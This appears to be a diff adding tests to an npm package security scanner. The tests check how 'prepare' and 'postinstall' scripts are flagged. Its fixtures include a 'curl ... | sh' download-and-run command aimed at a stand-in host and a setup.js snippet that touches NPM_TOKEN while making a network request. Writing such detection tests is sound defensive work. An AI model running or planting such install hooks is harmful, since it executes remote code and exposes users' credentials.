@@ -388,6 +388,27 @@ def test_install_scripts_reported() -> None:
     assert result.install_scripts == {"preinstall": "echo hi", "postinstall": "node install.js"}
 
 
+def test_prepare_is_reported_but_not_install_time_code() -> None:
+    # npm runs `prepare` only for git/local dependencies and the root project, never for a registry tarball.
+    prepare = scan({"setup.js": "require('https').get('https://x.example.com/'); process.env.NPM_TOKEN"},
+                   scripts={"prepare": "curl https://x.example.com/a.sh | sh; node setup.js"})  # fmt: skip
+    assert prepare.install_scripts == {"prepare": "curl https://x.example.com/a.sh | sh; node setup.js"}
+    assert not {f.rule for f in prepare.findings} & {
+        "install-script",
+        "install-network",
+        "shell-download-exec",
+    }
+    # the same commands as a postinstall are install-time code
+    postinstall = scan({"setup.js": "require('https').get('https://x.example.com/'); process.env.NPM_TOKEN"},
+                       scripts={"postinstall": "curl https://x.example.com/a.sh | sh; node setup.js"})  # fmt: skip
+    assert {"install-script", "install-network"} <= {f.rule for f in postinstall.findings}
+
+
+def test_prepare_listed_after_the_install_scripts() -> None:
+    result = scan({}, scripts={"prepare": "tsc", "postinstall": "node i.js", "install": "node-gyp rebuild"})
+    assert list(result.install_scripts) == ["install", "postinstall", "prepare"]
+
+
 def test_syntax_errors_still_yield_what_parses() -> None:
     result = scan({"broken.js": "const x = {{{ ;;; \nrequire('fs').readFileSync('x');\nfunction ("})
     assert "fs.readFileSync" in result.capabilities.builtin
